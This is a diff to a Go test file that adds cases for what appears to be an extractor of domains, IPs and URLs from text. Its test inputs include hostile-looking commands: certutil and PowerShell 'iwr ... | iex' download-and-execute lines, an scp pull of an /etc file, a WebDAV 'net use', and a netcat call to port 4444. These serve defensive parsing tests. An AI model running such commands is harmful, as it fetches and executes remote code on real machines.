@@ -715,6 +715,8 @@ func TestText(t *testing.T) {
 		// Files, versions, times.
 		{"cmd.exe kernel32.dll a.tar.gz README.md main.rs setup.py x.so.6 notes.txt C:\\a\\b.com .\\c.net ./d.org ~/e.com", ""},
 		{"version 1.2.3.4, Version: 1.2.3.5 v1.2.3.6 os_version=1.2.3.7 FileVersion: 10.0.2.1 user-version:1.2.3.8 1.2.3", ""},
+		{"net use \\\\a.com@SSL\\DavWWWRoot\\b.com \\\\203.0.113.7@8080\\x x.com@SSL", "domain a.com + ip 203.0.113.7"},
+		{"certutil -urlcache -f http://a.com/x.exe x.exe & ssh root@b.com; scp c.com:/etc/d.com . ; powershell iwr('http://e.com/f.ps1')|iex", "url http://a.com/x.exe + domain b.com + domain c.com + url http://e.com/f.ps1"},
 		{"nc -v 203.0.113.7 4444; curl -v 203.0.113.8; conversion 203.0.113.9", "ip 203.0.113.7 + ip 203.0.113.8 + ip 203.0.113.9"},
 		{"versions 1.2.3.4; version of 1.2.3.5; version, 1.2.3", "ip 1.2.3.4 + ip 1.2.3.5"},
 		{"version http://a.com 1.2.3.4", "url http://a.com/ + ip 1.2.3.4"},
